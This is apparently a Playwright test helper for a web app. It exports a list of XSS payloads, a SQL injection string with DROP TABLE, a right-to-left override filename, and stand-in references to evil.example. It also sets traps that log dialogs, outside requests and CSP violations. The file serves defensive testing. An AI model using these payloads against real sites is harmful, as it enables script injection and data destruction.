/** Texts that try to run as code, and traps that report when one of them did. */
import type { Page } from 'playwright/test'

export const hostile: readonly string[] = [
  '<script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><img src=x onerror=alert(1)>',
  "'><svg/onload=alert(1)>",
  '<svg><script>alert(1)</script></svg>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '<iframe srcdoc="<script>parent.alert(1)</script>">',
  '<a href="javascript:alert(1)">Ana</a>',
  'javascript:alert(1)',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '<!--<script>alert(1)//-->',
  '<style>*{background:url(//evil.example)}</style>',
  '<link rel=stylesheet href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href=//evil.example>',
  '<form action=//evil.example><input>',
  '<details open ontoggle=alert(1)>',
  '<body onload=alert(1)>',
  '<math><mtext></mtext><script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  String.raw`\u003cscript\u003ealert(1)`,
  String.raw`"-alert(1)-"\"-alert(1)//`,
  '\u2028alert(1)\u2029',
  '\u202Egpj.exe',
  "Robert'); DROP TABLE customers;--",
  '<x onpointerenter=alert(1)>Ana',
  '`onmouseover=alert(1) `',
]

/** Reports each dialog, each script refused by the policy and each request to another origin: all of them are holes. */
export async function setTraps(page: Page): Promise<string[]> {
  const trapped: string[] = []
  page.on('dialog', dialog => {
    trapped.push(`dialog: ${dialog.message()}`)
    void dialog.dismiss()
  })
  page.on('request', request => {
    if (request.url().includes('evil.example')) trapped.push(request.url())
  })
  await page.exposeFunction('trap', (text: string) => trapped.push(text))
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', event => {
      const { trap } = globalThis as unknown as { trap: (text: string) => void }
      const { violatedDirective, blockedURI, documentURI, lineNumber, columnNumber } = event
      trap(
        `${violatedDirective}: ${blockedURI} in ${documentURI}, ${lineNumber}:${columnNumber}, ${document.title}`,
      )
    })
  })
  return trapped
}
